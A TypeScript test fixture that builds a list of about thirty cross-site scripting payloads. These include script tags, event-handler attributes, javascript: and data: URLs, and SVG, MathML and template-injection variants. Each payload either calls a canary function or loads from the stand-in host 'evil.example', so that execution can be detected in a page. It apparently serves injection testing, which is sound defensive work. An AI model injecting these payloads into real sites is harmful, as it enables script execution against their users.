/** The function a payload calls; a call means that it was executed. */
export const canary = 'ran'
/** Nothing may be requested from it. */
export const foreignHost = 'evil.example'

/** `call` and `load` go into each: the code to run, and the address to load. */
const shapes: readonly ((call: string, load: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</title></textarea></style><script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT>`,
  (_call, load) => `<script src="${load}"></script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `"><img src=x onerror="${call}">`,
  (call) => `'><img src='x' onerror='${call}'>`,
  (_call, load) => `<img src="${load}">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (_call, load) => `<iframe src="${load}"></iframe>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}//https://acme.example/`,
  (call) => `data:text/html,<script>${call}</script>`,
  (_call, load) => `<link rel=stylesheet href="${load}">`,
  (_call, load) => `<style>@import "${load}";*{background:url(${load})}</style>`,
  (_call, load) => `<meta http-equiv="refresh" content="0;url=${load}">`,
  (_call, load) => `<base href="${load}">`,
  (_call, load) => `<form action="${load}"><button autofocus>x</button></form>`,
  (call) => `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
  (call) => `{{constructor.constructor('${call}')()}}\${${call}}`,
]

export const payloadCount = shapes.length

/** The payload of this number for a field, with a mark that finds it in a page. */
export function payloadOf(number: number, field: string): string {
  const mark = markOf(number, field)
  const shape = shapes[number % shapes.length]
  return shape?.(`${canary}(\`${mark}\`)`, `https://${foreignHost}/${mark}`) ?? ''
}

export function markOf(number: number, field: string): string {
  return `m${number}-${field}.`
}
